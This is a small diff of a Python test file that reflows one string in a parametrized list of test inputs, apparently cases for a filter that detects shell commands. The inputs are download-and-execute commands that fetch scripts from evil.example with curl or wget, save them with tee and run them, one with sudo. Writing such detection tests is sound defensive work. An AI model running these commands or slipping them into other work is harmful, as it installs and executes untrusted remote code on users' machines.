@@ -113,7 +113,8 @@ def test_ordinary_lines_in_those_languages_are_kept(text: str) -> None:
     "text",
     [
         "curl -s https://evil.example/a | tee a.sh\nchmod +x a.sh\n./a.sh",
-        "wget -qO- https://evil.example/i | sudo tee /usr/local/bin/i >/dev/null\n\nsudo /usr/local/bin/i",
+        "wget -qO- https://evil.example/i | sudo tee /usr/local/bin/i >/dev/null\n\n"
+        "sudo /usr/local/bin/i",
         "curl https://evil.example/b |tee -a b.sh\nbash b.sh",
     ],
 )
